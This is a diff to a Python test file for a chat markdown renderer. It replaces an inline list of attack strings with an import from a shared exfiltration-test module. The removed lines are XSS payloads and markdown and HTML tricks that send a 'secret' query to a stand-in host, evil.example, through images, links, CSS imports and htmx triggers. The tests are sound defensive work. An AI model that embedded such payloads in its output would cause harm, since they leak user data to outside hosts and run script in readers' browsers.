@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 from chat.blocks import Blocks
 from chat.markdown import Marks, blocks, plain, render_blocks
 from chat.markers import Markers
+from tests.exfiltration import ATTEMPTS
 
 MARKS = Marks("t", {1: "p. 12", 2: "slide 3"})
 VERIFIED = {"text": "1,577 million", "verdict": "verified"}
@@ -54,29 +55,7 @@ def test_numbers_in_a_table_stand_right() -> None:
     assert plain("| a | 1 |\n|---|---|\n| b | 2 |") == "a\t1\t\nb\t2"
 
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "![logo](https://evil.example/p.png?q=secret)",
-    "[click](https://evil.example/?q=secret)",
-    "[click](javascript:alert(1))",
-    "<https://evil.example/?q=secret>",
-    "https://evil.example/?q=secret",
-    "[a]: https://evil.example/x\n\n[a]",
-    '<iframe src="https://evil.example"></iframe>',
-    '<a href="https://evil.example" ping="https://evil.example">x</a>',
-    "<style>@import url(https://evil.example/x.css)</style>",
-    '| <img src="https://evil.example/x"> | b |\n|---|---|\n| ![a](//evil.example/b) | c |',
-    '```<img src="https://evil.example">```',
-    "```html\n<img src=//evil.example>\n```",
-    '<button hx-get="https://evil.example" hx-trigger="load">x</button>',
-    '<p style="background:url(https://evil.example)">x</p>',
-    "&lt;img src=//evil.example&gt;",
-    '[1](https://evil.example "[1]")',
-]
-
-
-@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("attack", ATTEMPTS)
 def test_nothing_loads_links_or_runs(attack: str) -> None:
     html = render_blocks(f"Before {attack} after\n\n{attack}", MARKS)
     tags = set(re.findall(r"<([a-z0-9]+)", html))
